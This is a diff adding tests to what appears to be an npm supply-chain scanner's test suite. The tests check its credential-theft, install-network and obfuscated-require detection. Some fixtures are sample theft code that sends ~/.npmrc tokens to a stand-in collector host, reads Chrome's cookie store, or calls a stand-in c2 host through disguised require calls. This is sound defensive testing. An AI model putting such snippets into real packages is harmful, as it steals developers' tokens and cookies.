@@ -278,3 +278,30 @@ test('the parser is loaded lazily: not by import "wirelock", not by importing th
   );
   assert.deepEqual(JSON.parse(out), { afterCore: false, afterAudit: false, afterAnalysis: true, api: 'function' });
 });
+
+test('independent review: ~/.npmrc next to a registry read is a registry client; the same token sent elsewhere or written to the registry is theft', () => {
+  const judge = (files: Record<string, string>, scripts?: Record<string, string>) => {
+    const dir = mkdtempSync(join(work, 'registry-'));
+    writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'tool', version: '1.0.0', ...(scripts ? { scripts } : {}) }));
+    for (const [file, text] of Object.entries(files)) writeFileSync(join(dir, file), text);
+    return judgePackage('tool', analyzePackageDir(dir), { verified: false, reason: '' }).findings.map((f) => `${f.severity} ${f.id}`);
+  };
+  const read = "const fs = require('fs'), os = require('os'), path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n";
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { headers: { authorization: rc } });\n` }), []);
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://collector.example.invalid/' + name, { headers: { authorization: rc } });\n` }), ['critical code/credential-theft']);
+  assert.deepEqual(judge({ 'index.js': `${read}fetch('https://registry.npmjs.org/' + name, { method: 'PUT', body: rc });\n` }), ['critical code/credential-theft']);
+  // The words process.env are not a .env file; ./cookies.json is not Chromium's Cookies store.
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst ca = fs.readFileSync(process.env.MY_CA_FILE);\nrequire('https').get('https://api.example.com', { ca });\n" }), []);
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs');\nconst jar = fs.readFileSync('./cookies.json');\nrequire('https').get('https://api.example.com');\n" }), []);
+  assert.deepEqual(judge({ 'index.js': "const fs = require('fs'), os = require('os');\nconst c = fs.readFileSync(os.homedir() + '/.config/google-chrome/Default/Cookies');\nrequire('https').get('https://api.example.com');\n" }), ['critical code/credential-theft']);
+  // An update check against the registry at install is info; the same request to another host stays medium.
+  assert.deepEqual(judge({ 'check.js': "fetch('https://registry.npmjs.org/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['info code/install-network']);
+  assert.deepEqual(judge({ 'check.js': "fetch('https://updates.example.invalid/tool/latest').then((r) => r.json());\n" }, { postinstall: 'node check.js' }), ['medium code/install-network']);
+});
+
+test('independent review: other spellings of require load their module', () => {
+  const net = (source: string) => caps(analyzeSource(source)).includes('network');
+  for (const load of ["require.call(null, 'https')", "require.apply(null, ['https'])", "Reflect.apply(require, null, ['https'])", "require.main.require('https')", "module.constructor._load('https')"]) {
+    assert.ok(net(`const h = ${load};\nh.get('https://c2.example.invalid/');\n`), load);
+  }
+});
